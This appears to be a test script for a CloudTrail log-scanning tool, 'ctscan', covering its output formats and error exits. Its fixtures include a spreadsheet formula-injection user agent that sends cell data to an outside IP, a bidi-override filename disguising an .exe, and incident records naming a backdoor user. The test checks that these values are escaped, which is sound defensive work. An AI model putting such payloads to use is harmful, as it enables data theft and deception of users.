# The output formats (ctscan-output(7)) over testdata/output: a user agent
# that is a spreadsheet formula, values starting with - + @ and a tab, an
# error message with commas and quotes, an object key with a newline and a
# tab, unicode, a bidi override, a very wide key, and NULLs (a call by an
# AWS service has no access key, most calls no error).
$ ctscan ingest -q -d o.db "$TESTDATA/output/records.json" "$TESTDATA/output/flows.log" 2>/dev/null && ctscan ingest -q -d i.db "$TESTDATA/incident" 2>/dev/null

# table, piped: aligned, nothing cut, control characters and the bidi
# override escaped, a NULL an empty cell
$ ctscan timeline -d o.db -c time,identity,access_key,event,error,detail
> time                      identity                  access_key            event         error         detail
> ------------------------  ------------------------  --------------------  ------------  ------------  --------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------
> 2024-03-12T11:59:30.000Z  dev-carol                 AKIAQXEXAMPLECAROL01  GetObject                   acme-reports/Q1/Ünïcødé 日本語 ✓.csv
> 2024-03-12T12:00:00.000Z  dev-carol                 AKIAQXEXAMPLECAROL01  PutObject                   acme-reports/tmp/line1\nline2\tcol2
> 2024-03-12T12:00:00.000Z  dev-carol                 AKIAQXEXAMPLECAROL01  GetObject                   acme-reports/invoice\u202etxt.exe
> 2024-03-12T12:00:00.000Z  dev-carol                 AKIAQXEXAMPLECAROL01  DeleteObject  AccessDenied  acme-reports/Q1/summary.csv
> 2024-03-12T12:00:01.000Z  dev-carol                 AKIAQXEXAMPLECAROL01  GetObject                   acme-reports/exports/2024/03/12/customer-data-full-export-part-0001-of-0001-customer-data-full-export-part-0001-of-0001-customer-data-full-export-part-0001-of-0001-customer-data-full-export-part-0001-of-0001-customer-data-full-export-part-0001-of-0001-customer-data-full-export-part-0001-of-0001-final.csv.gz
> 2024-03-12T12:00:02.000Z  cloudtrail.amazonaws.com                        GetBucketAcl                acme-reports

$ ctscan sql -d o.db "SELECT event_name, error_message, user_agent FROM events ORDER BY event_ts, id"
> event_name    error_message                         user_agent
> ------------  ------------------------------------  ----------------------------------------------------------------------------
> GetObject                                           =HYPERLINK("http://198.51.100.23/?q="&A1,"update required"), aws-cli/2.15.30
> PutObject                                           -aws-cli/2.15.30 Python/3.11.8
> GetObject                                           +aws-sdk-go/1.50.0 (go1.21.6; linux; amd64)
> DeleteObject  Access Denied, "quoted", with commas  @aws-cli/2.15.30
> GetObject                                           \tBoto3/1.34.0 md/Botocore#1.34.0
> GetBucketAcl                                        cloudtrail.amazonaws.com

# numbers right-aligned, a NULL among them too
$ ctscan sql -d o.db "SELECT column1 AS n, column2 AS s FROM (VALUES (1, 'a'), (NULL, 'b'), (-250, NULL), (3.5, 'd'))"
>    n  s
> ----  -
>    1  a
>       b
> -250
>  3.5  d

# no rows: nothing at all
$ ctscan timeline -d o.db --event NoSuchEvent

# csv: RFC 4180 quoting; text starting with = + - @ or a tab gets a
# leading ' so that a spreadsheet does not run it; numbers never do
$ ctscan timeline -d o.db -c time,event,user_agent,error_message,access_key -o csv
> time,event,user_agent,error_message,access_key
> 2024-03-12T11:59:30.000Z,GetObject,"'=HYPERLINK(""http://198.51.100.23/?q=""&A1,""update required""), aws-cli/2.15.30",,AKIAQXEXAMPLECAROL01
> 2024-03-12T12:00:00.000Z,PutObject,'-aws-cli/2.15.30 Python/3.11.8,,AKIAQXEXAMPLECAROL01
> 2024-03-12T12:00:00.000Z,GetObject,'+aws-sdk-go/1.50.0 (go1.21.6; linux; amd64),,AKIAQXEXAMPLECAROL01
> 2024-03-12T12:00:00.000Z,DeleteObject,'@aws-cli/2.15.30,"Access Denied, ""quoted"", with commas",AKIAQXEXAMPLECAROL01
> 2024-03-12T12:00:01.000Z,GetObject,'	Boto3/1.34.0 md/Botocore#1.34.0,,AKIAQXEXAMPLECAROL01
> 2024-03-12T12:00:02.000Z,GetBucketAcl,cloudtrail.amazonaws.com,,

$ ctscan timeline -d o.db -c event,detail -o csv --event PutObject
> event,detail
> PutObject,"acme-reports/tmp/line1
> line2	col2"

$ ctscan sql -d o.db -o csv "SELECT -5 AS neg, '-5' AS negtext, 1.0 AS one, '' AS empty, NULL AS nul, x'2b2b' AS blob, '=1+1' AS f"
> neg,negtext,one,empty,nul,blob,f
> -5,'-5,1.0,,,Kys=,'=1+1

$ ctscan timeline -d o.db --event NoSuchEvent -o csv
> time,account,region,identity,access_key,source_ip,service,event,error,detail,event_id

# tsv: one line per row, \t \n \r \\ escaped, nothing quoted
$ ctscan timeline -d o.db -c time,event,user_agent,error_message,detail -o tsv --until 2024-03-12T12:00:01Z
> time	event	user_agent	error_message	detail
> 2024-03-12T11:59:30.000Z	GetObject	=HYPERLINK("http://198.51.100.23/?q="&A1,"update required"), aws-cli/2.15.30		acme-reports/Q1/Ünïcødé 日本語 ✓.csv
> 2024-03-12T12:00:00.000Z	PutObject	-aws-cli/2.15.30 Python/3.11.8		acme-reports/tmp/line1\nline2\tcol2
> 2024-03-12T12:00:00.000Z	GetObject	+aws-sdk-go/1.50.0 (go1.21.6; linux; amd64)		acme-reports/invoice‮txt.exe
> 2024-03-12T12:00:00.000Z	DeleteObject	@aws-cli/2.15.30	Access Denied, "quoted", with commas	acme-reports/Q1/summary.csv
> 2024-03-12T12:00:01.000Z	GetObject	\tBoto3/1.34.0 md/Botocore#1.34.0		acme-reports/exports/2024/03/12/customer-data-full-export-part-0001-of-0001-customer-data-full-export-part-0001-of-0001-customer-data-full-export-part-0001-of-0001-customer-data-full-export-part-0001-of-0001-customer-data-full-export-part-0001-of-0001-customer-data-full-export-part-0001-of-0001-final.csv.gz

$ ctscan sql -d o.db -o tsv "SELECT 'back\slash' AS a, 'cr' || char(13) || 'lf' AS b, NULL AS c"
> a	b	c
> back\\slash	cr\rlf	

# json: one array, one object per line; typed values, NULL as null
$ ctscan timeline -d o.db --flows --since 2024-03-12T12:00:00Z --until 2024-03-12T12:00:00Z -c time,kind,event,error,srcport,bytes,detail -o json
> [
> {"time":"2024-03-12T12:00:00.000Z","kind":"event","event":"PutObject","error":null,"srcport":null,"bytes":null,"detail":"acme-reports/tmp/line1\nline2\tcol2"},
> {"time":"2024-03-12T12:00:00.000Z","kind":"event","event":"GetObject","error":null,"srcport":null,"bytes":null,"detail":"acme-reports/invoice‮txt.exe"},
> {"time":"2024-03-12T12:00:00.000Z","kind":"event","event":"DeleteObject","error":"AccessDenied","srcport":null,"bytes":null,"detail":"acme-reports/Q1/summary.csv"},
> {"time":"2024-03-12T12:00:00.000Z","kind":"flow","event":"ACCEPT","error":null,"srcport":50000,"bytes":4000,"detail":"192.0.2.44:50000 -> 10.0.7.9:443 tcp 4000 bytes 10 packets"}
> ]

$ ctscan timeline -d o.db --event NoSuchEvent -o json
> []

# ndjson: JSON-text columns nested, not strings
$ ctscan timeline -d o.db --event DeleteObject -c event_id,request_parameters,response_elements,resources,error_message -o ndjson
> {"event_id":"0b7e6c2a-5e5e-4f4f-9a9a-000000000004","request_parameters":{"bucketName":"acme-reports","Host":"acme-reports.s3.us-east-1.amazonaws.com","key":"Q1/summary.csv"},"response_elements":null,"resources":[{"type":"AWS::S3::Object","ARN":"arn:aws:s3:::acme-reports/Q1/summary.csv"},{"accountId":"111122223333","type":"AWS::S3::Bucket","ARN":"arn:aws:s3:::acme-reports"}],"error_message":"Access Denied, \"quoted\", with commas"}

$ ctscan sql -d o.db -o ndjson "SELECT '{\"a\": [1, 2.5, {\"b\": null}]}' AS policy_json, '{broken' AS detail_json, '{\"x\": 1}' AS plain, 1.5 AS r, 9223372036854775807 AS big, x'00ff' AS bin, NULL AS n, 'Ünïcødé 日本語' AS u"
> {"policy_json":{"a":[1,2.5,{"b":null}]},"detail_json":"{broken","plain":"{\"x\": 1}","r":1.5,"big":9223372036854775807,"bin":"AP8=","n":null,"u":"Ünïcødé 日本語"}

$ ctscan timeline -d o.db --event NoSuchEvent -o ndjson

# nested values are there without fromjson: SQLite's own JSON path
# reaches into them (jq would see the same: `jq .request_parameters.policyArn`)
$ ctscan timeline -d i.db --event AttachUserPolicy -c request_parameters,user_identity -o ndjson | while IFS= read -r l; do ctscan sql -d i.db -o tsv -p j="$l" "SELECT json_extract(:j, '$.request_parameters.policyArn') || ' ' || json_extract(:j, '$.user_identity.sessionContext.sessionIssuer.userName')" | tail -1; done
> arn:aws:iam::aws:policy/AdministratorAccess admin-break-glass

$ ctscan sql -d i.db -o ndjson "SELECT event_name, request_parameters FROM events WHERE event_name = 'CreateUser' ORDER BY event_ts" | while IFS= read -r l; do ctscan sql -d i.db -o tsv -p j="$l" "SELECT json_array(json_extract(:j, '$.event_name'), json_extract(:j, '$.request_parameters.userName'))" | tail -1; done
> ["CreateUser","svc-monitor"]
> ["CreateUser","backdoor-svc"]

# raw: the verbatim records, byte for byte, in time order
$ ctscan timeline -d o.db -o raw > raw.out && sed '1d;$d;s/,$//' "$TESTDATA/output/records.json" | cmp - raw.out && echo same
> same

$ ctscan show -d o.db 0b7e6c2a-5e5e-4f4f-9a9a-000000000003 | cmp - <(sed -n '4s/,$//p' "$TESTDATA/output/records.json") && echo same
> same

# ... so jq over them sees what it sees over the original logs, also for
# gzipped deliveries: each raw line is one of the delivery's records, byte
# for byte (the file is one compact line of records)
$ ctscan timeline -d i.db --event '^Create(User|AccessKey)$' -o raw > a.out && zcat "$TESTDATA"/incident/AWSLogs/111122223333/CloudTrail/us-east-1/2024/03/12/*T1400Z*.json.gz > d.json && wc -l < a.out && while IFS= read -r l; do grep -qF -- "$l" d.json && echo found; done < a.out
> 3
> found
> found
> found

# a flow has no stored line: its fields under their flow log names
$ ctscan timeline -d o.db --flows --event NoSuchEvent -o raw
> {"version":2,"account-id":"111122223333","interface-id":"eni-0c0ffee0c0ffee000","srcaddr":"192.0.2.44","dstaddr":"10.0.7.9","srcport":50000,"dstport":443,"protocol":6,"packets":10,"bytes":4000,"start":1710244800,"end":1710244859,"action":"ACCEPT","log-status":"OK"}

# --columns does not apply to raw
$ ctscan timeline -d o.db -c event_id -o raw
? 2
! ctscan: --columns does not apply to -o raw, which prints the verbatim records
! usage: ctscan timeline [-d INDEX] [filters] [--flows] [-c COLUMNS] [-n LIMIT] [-o FORMAT]
! Try 'ctscan timeline --help' for more information.

# sql -o raw: the _raw column, else the first
$ ctscan sql -d o.db -o raw "SELECT 'first' AS a, 'chosen' AS _raw UNION ALL SELECT 'x', NULL"
> chosen
>

# md
$ ctscan sql -d o.db -o md "SELECT event_name, json_extract(request_parameters, '$.key') AS key, error_code FROM events WHERE event_ts <= ts_ms('2024-03-12T12:00:00Z') ORDER BY event_ts, id"
> | event_name | key | error_code |
> |---|---|---|
> | GetObject | Q1/Ünïcødé 日本語 ✓.csv |  |
> | PutObject | tmp/line1\nline2\tcol2 |  |
> | GetObject | invoice\u202etxt.exe |  |
> | DeleteObject | Q1/summary.csv | AccessDenied |

$ ctscan timeline -d o.db -o xml
? 2
! ctscan: unknown output format 'xml' (table, csv, tsv, json, ndjson, raw, md)
! usage: ctscan timeline [-d INDEX] [filters] [--flows] [-c COLUMNS] [-n LIMIT] [-o FORMAT]
! Try 'ctscan timeline --help' for more information.

# the reader goes away: quiet, status 0 (pipefail shows ctscan's own)
$ set -o pipefail; ctscan timeline -d i.db --flows | head -1 | cut -c1-30
> time                      kind

$ set -o pipefail; ctscan timeline -d i.db --flows -o ndjson | head -1 | cut -c1-30
> {"time":"2024-03-12T07:58:02.0

$ set -o pipefail; ctscan sql -d i.db -o csv 'SELECT * FROM events' | head -1 | cut -c1-30
> id,event_time,event_ts,event_i

$ set -o pipefail; ctscan show -d i.db $(ctscan sql -d i.db -o raw 'SELECT event_id FROM events ORDER BY event_ts') | head -1 | cut -c1-30
> {"eventVersion":"1.09","userId

# a failed write (a full disk) is reported: status 5
$ ctscan timeline -d i.db --flows > /dev/full
? 5
! ctscan: cannot write output: No space left on device

$ ctscan timeline -d o.db -n 1 > /dev/full
? 5
! ctscan: cannot write output: No space left on device

$ ctscan sql -d o.db 'SELECT 1' > /dev/full
? 5
! ctscan: cannot write output: No space left on device

$ ctscan show -d o.db 0b7e6c2a-5e5e-4f4f-9a9a-000000000001 > /dev/full
? 5
! ctscan: cannot write output: No space left on device
